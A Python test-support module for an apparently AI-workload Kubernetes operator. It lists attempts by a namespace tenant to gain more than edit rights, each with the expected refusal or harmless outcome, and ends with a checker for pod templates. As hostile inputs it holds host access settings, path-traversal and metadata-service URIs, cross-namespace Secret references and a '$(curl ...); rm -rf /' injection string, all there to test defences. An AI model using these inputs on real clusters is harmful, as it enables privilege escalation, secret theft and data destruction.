"""What a tenant with `edit` in one namespace tries in order to get more than that, as a table: one line, one attempt.

An attempt is the edit of a smallest valid object, sent by that tenant. What must come out is said beside it: the API server
refuses it (`Refused`, with words of the answer), or it is taken and does no harm (`Told`, with the reason that a condition
of the object gives; empty for none in particular). That it does no harm is judged over all that was made, by `harm`.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, TypeAlias

from deepseek_operator.workloads.pod.reach import asked
from tests.support.api_objects import Object, changed, minimal_serving, minimal_training

Changes: TypeAlias = Mapping[str, Any]
POD, ENV, VOLUME = "spec.trainer.pod", "spec.trainer.env", "spec.checkpoints.volume"
SECRET = "prize"
"""A Secret of the tenant's namespace that it may not read."""
STRANGERS = ("taken-train", "taken-serve")
"""Objects of somebody else in the tenant's namespace, under names that the operator would use."""


@dataclass(frozen=True)
class Refused:
    """The API server does not take the object and says why."""

    words: str


@dataclass(frozen=True)
class Told:
    """The object is taken; `reason` is one of its conditions' in the end."""

    reason: str = ""


@dataclass(frozen=True)
class Attack:
    """One attempt."""

    name: str
    object: Object
    out: Refused | Told


def _training(name: str, changes: Changes, out: Refused | Told) -> Attack:
    return Attack(name, changed(minimal_training(), changes), out)


def _serving(name: str, changes: Changes, out: Refused | Told) -> Attack:
    return Attack(name, changed(minimal_serving(), changes), out)


def _pod(field: str, value: Any) -> Iterator[Attack]:
    """A field of a pod that neither kind's settings have."""
    out = f'pod.{field}"'
    yield _training(f"a training's {field}", {POD: {field: value}}, Refused(f'unknown field "spec.trainer.{out}'))
    yield _serving(f"a serving's {field}", {"spec.pod": {field: value}}, Refused(f'unknown field "spec.{out}'))


def _metadata(kind: str, key: str, value: str = "true") -> Iterator[Attack]:
    """A label or annotation of pods that somebody else acts on."""
    yield _training(f"a training's {kind[:-1]} {key}", {POD: {kind: {key: value}}}, Refused("key"))
    yield _serving(f"a serving's {kind[:-1]} {key}", {"spec.pod": {kind: {key: value}}}, Refused("key"))


def _profile(name: str) -> Iterator[Attack]:
    accelerator = {"spec.accelerator": {"profile": name, "perNode": 1}}
    own = {"type": "custom", "image": "x:1", "command": ["/x"], "resources": {"memory": "1Ti"}}
    told = Told("HostAccessNotAllowed")
    yield _training(f"a training on {name}", {**accelerator, "spec.trainer": own, "spec.nodes": {"count": 1}}, told)
    engine = {"type": "custom", "image": "x:1", "resources": {"memory": "1Ti"}}
    yield _serving(f"a serving on {name}", {**accelerator, "spec.engine": engine}, told)


def _dataset(uri: str) -> Changes:
    return {"spec.datasets": [{"source": {"uri": uri}}]}


def _model(uri: str) -> Changes:
    return {"spec.model": {"source": {"uri": uri}}}


def _every() -> Iterator[Attack]:
    # The node, by pod settings, and by the administrators' profiles.
    for field, value in (
        ("hostNetwork", True),
        ("hostPID", True),
        ("hostIPC", True),
        ("hostUsers", True),
        ("volumes", [{"name": "v", "hostPath": {"path": "/"}}]),
        ("securityContext", {"runAsUser": 0}),
        ("initContainers", [{"name": "i", "image": "x:1", "securityContext": {"privileged": True}}]),
        ("shareProcessNamespace", True),
        ("runtimeClassName", "privileged"),
        ("schedulerName", "own"),
        ("nodeName", "control-plane"),
    ):
        yield from _pod(field, value)
    for profile in (
        "intel-gaudi3-128",
        "gaudi2",
        "huawei-ascend910c-64",
        "nvidia-h200-141-rdma",
        "amd-mi300x-192-rdma",
    ):
        yield from _profile(profile)
    yield _training("root", {POD: {"runAsUser": 0}}, Refused("greater than or equal to 1"))
    yield _serving("root serves", {"spec.pod": {"runAsUser": 0}}, Refused("greater than or equal to 1"))
    yield _training("a group of root's", {POD: {"fsGroup": 0}}, Refused("greater than or equal to 1"))
    yield _training("host ports", {"spec.trainer.ports": [{"hostPort": 22}]}, Refused("unknown field"))
    # Other identities.
    for field, value in (("serviceAccountName", "admin"), ("automountServiceAccountToken", True)):
        yield from _pod(field, value)
    projected = [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]
    yield _training("a token's volume", {"spec.trainer.volumes": projected}, Refused("unknown field"))
    # Secrets.
    key = {"secretKeyRef": {"name": SECRET, "key": "k"}}
    yield _training("a Secret by valueFrom", {ENV: [{"name": "A", "valueFrom": key}]}, Refused("unknown field"))
    yield _serving(
        "every Secret by envFrom", {"spec.engine.envFrom": [{"secretRef": {"name": SECRET}}]}, Refused("unknown field")
    )
    elsewhere = {"name": "victim/prize", "key": "k"}
    yield _training("a Secret elsewhere", {ENV: [{"name": "A", "secret": elsewhere}]}, Refused("write a name"))
    stepped = {"name": "../victim/prize", "key": "k"}
    yield _serving(
        "a Secret by a path", {"spec.engine.env": [{"name": "A", "secret": stepped}]}, Refused("write a name")
    )
    spaced = {"name": SECRET, "namespace": "victim", "key": "k"}
    yield _training("a Secret with a namespace", {ENV: [{"name": "A", "secret": spaced}]}, Refused("unknown field"))
    yield _training("a pull secret elsewhere", {POD: {"imagePullSecrets": ["victim/prize"]}}, Refused("write a name"))
    # Other namespaces, nodes and networks, by references and paths.
    for uri in (
        "pvc://victim/../claim",
        "pvc://c/../../etc/passwd",
        "pvc://c/%2e%2e/x",
        "pvc://c/$(HOSTNAME)/x",
        "pvc://../c/x",
        "file:///etc/passwd",
        "http://169.254.169.254/latest?x=1",
        "https://token@kubernetes.default.svc/api/",
        "gopher://192.0.2.1/x",
        "hostpath:///",
    ):
        yield _training(f"data at {uri}", _dataset(uri), Refused("write pvc://"))
        yield _serving(f"a model at {uri}", _model(uri), Refused("write pvc://"))
    # Of the web what the administrator allows, which here is nothing: not what a cluster, a node or its cloud says to its own.
    for uri in ("http://169.254.169.254/latest/", "https://kubernetes.default.svc/api/"):
        kept = {"source": {"uri": uri, "claimName": "models"}}
        yield _training(f"data from {uri}", {"spec.datasets": [kept]}, Told("SourceNotAllowed"))
        yield _serving(f"a model from {uri}", {"spec.model": kept}, Told("SourceNotAllowed"))
    # At the administrator's address alone, and to a claim of the tenant's own.
    yield _training("data in a bucket and on no claim", _dataset("s3://bucket/x"), Refused("needs claimName"))
    yield _training("data of a bucket elsewhere", _dataset("s3://key:secret@192.0.2.1/x"), Refused("write pvc://"))
    yield _training(
        "data of a repository's other one", _dataset("hf://datasets/a/b@../../c/d"), Refused("write pvc://")
    )
    yield _serving("a model in a bucket and on no claim", _model("s3://bucket/x"), Refused("needs claimName"))
    yield _serving("a model of a bucket elsewhere", _model("s3://key:secret@192.0.2.1/x"), Refused("write pvc://"))
    for path in ("../x", "/etc", "a/../../b", "$(A)", "a/./b"):
        volume = {VOLUME: {"claimName": "c", "subPath": path}}
        yield _training(f"checkpoints at {path}", volume, Refused("relative path"))
    yield _training("a claim elsewhere", {VOLUME: {"claimName": "victim/c"}}, Refused("write a name"))
    other = {"spec.model": {"fromTraining": {"name": "t", "namespace": "victim"}}}
    yield _serving("a training elsewhere", other, Refused("unknown field"))
    named = {"spec.model": {"fromTraining": {"name": "victim/t"}}}
    yield _serving("a training by a path", named, Refused("of a-z"))
    uid = {VOLUME: {"claimName": "c"}, "spec.checkpoints.resume": {"from": {"trainingUID": "../../other"}}}
    yield _training("checkpoints by a path for a uid", uid, Refused("write the uid"))
    # Whatever else acts on labels and annotations.
    for label in (
        "pod-security.kubernetes.io/enforce",
        "kueue.x-k8s.io/queue-name",
        "batch.kubernetes.io/job-name",
        "job-name",
        "deepseek-operator.io/owner-uid",
        "app.kubernetes.io/managed-by",
    ):
        yield from _metadata("labels", label, "x")
    for annotation in (
        "container.apparmor.security.beta.kubernetes.io/trainer",
        "kubernetes.io/limit-ranger",
        "deepseek-operator.io/plan",
    ):
        yield from _metadata("annotations", annotation, "unconfined")
    forged = {"metadata.annotations": {"deepseek-operator.io/plan": '{"profile": "intel-gaudi3-128"}'}}
    yield _training("a forged plan", forged, Told())
    wears = {"metadata.labels": {"pod-security.kubernetes.io/enforce": "privileged", "prometheus.io/scrape": "true"}}
    yield _training("labels for its children", wears, Told())
    yield _serving("labels for its children that serve", wears, Told())
    # Variables, images, words for a shell.
    for name in ("DEEPSEEK_TRAINING_UID", "DEEPSEEK_CHECKPOINT_ROOT", "MASTER_ADDR", "RANK"):
        yield _training(f"the variable {name}", {ENV: [{"name": name, "value": "x"}]}, Refused(":"))
    for image in (
        "user:pw@registry.example/x",
        "https://registry.example/x",
        "registry.ex\u0430mple/x",
        "a b",
        "x" * 1024,
    ):
        yield _training(f"the image {image[:30]}", {"spec.trainer.image": image}, Refused("spec.trainer.image"))
    shell = {"spec.model.name": "$(curl 192.0.2.1); rm -rf /"}
    yield _serving("words for a shell as a model's name", shell, Refused("spec.model.name"))
    # Others' objects under the names of ours, and ownership that is forged.
    yield _training("a name that is taken", {"metadata.name": "taken"}, Told("NameConflict"))
    yield _serving("a serving's name that is taken", {"metadata.name": "taken"}, Told("NameConflict"))
    owner = {"apiVersion": "v1", "kind": "Namespace", "name": "victim", "uid": "0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f"}
    yield _training("a foreign owner", {"metadata.ownerReferences": [owner]}, Told())
    # Numbers and sizes.
    for count in (0, -1, 2**31, 2**63):
        yield _training(f"{count} nodes", {"spec.nodes": {"count": count}}, Refused("spec.nodes.count"))
    for count in (-1, 2**31, 2**63):
        yield _serving(f"{count} replicas", {"spec.replicas": count}, Refused("spec.replicas"))
    many = [{"name": f"V{number}"} for number in range(10_000)]
    yield _training("10,000 variables", {ENV: many}, Refused("must have at most"))


ATTACKS: tuple[Attack, ...] = tuple(_every())


def harm(template: Mapping[str, Any]) -> tuple[str, ...]:
    """What a pod template has that its author could not have given to it; empty: nothing."""
    return tuple(_harm(template))


def _harm(template: Mapping[str, Any]) -> Iterator[str]:
    spec, labels = template["spec"], template["metadata"].get("labels", {})
    yield from asked(template)
    if spec.get("serviceAccountName", "default") != "default" or spec.get("automountServiceAccountToken") is not False:
        yield "an identity"
    for container in spec["containers"]:
        for variable in container.get("env") or ():
            if "secretKeyRef" in (variable.get("valueFrom") or {}):
                yield f"a Secret in {variable['name']}"
    yield from (
        f"volume {v['name']}" for v in spec.get("volumes") or () if not set(v) & {"persistentVolumeClaim", "emptyDir"}
    )
    yield from (key for key in labels if key.startswith(("pod-security.", "prometheus.io/", "sidecar.istio.io/")))
